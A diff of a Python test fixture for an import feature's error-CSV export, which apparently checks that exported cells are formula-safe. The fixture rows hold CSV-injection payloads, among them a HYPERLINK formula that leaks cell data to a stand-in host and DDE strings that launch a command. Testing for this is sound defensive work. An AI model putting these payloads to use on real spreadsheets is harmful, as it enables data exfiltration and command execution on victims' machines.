@@ -10,12 +10,12 @@ from tests.imports.conftest import IMPORT, confirm, upload, wait_done
 
 # a header and cells that a spreadsheet would run; the price cell makes each row fail
 FEED = (
-    'sku,=HYPERLINK("http://evil.example/?"&A1;"click"),price\r\n'
-    'F-1,+cmd|\' /C calc\'!A0,not a number\r\n'
-    'F-2,@SUM(1+1)*cmd|\' /C calc\'!A0,-x\r\n'
-    '"\tF-3","\rtrick",=1+2\r\n'
-    'F-4,plain text,also bad\r\n'
-).encode()
+    b'sku,=HYPERLINK("http://evil.example/?"&A1;"click"),price\r\n'
+    b'F-1,+cmd|\' /C calc\'!A0,not a number\r\n'
+    b'F-2,@SUM(1+1)*cmd|\' /C calc\'!A0,-x\r\n'
+    b'"\tF-3","\rtrick",=1+2\r\n'
+    b'F-4,plain text,also bad\r\n'
+)
 
 
 async def test_errors_csv_cells_are_formula_safe(client, tenant, worker):
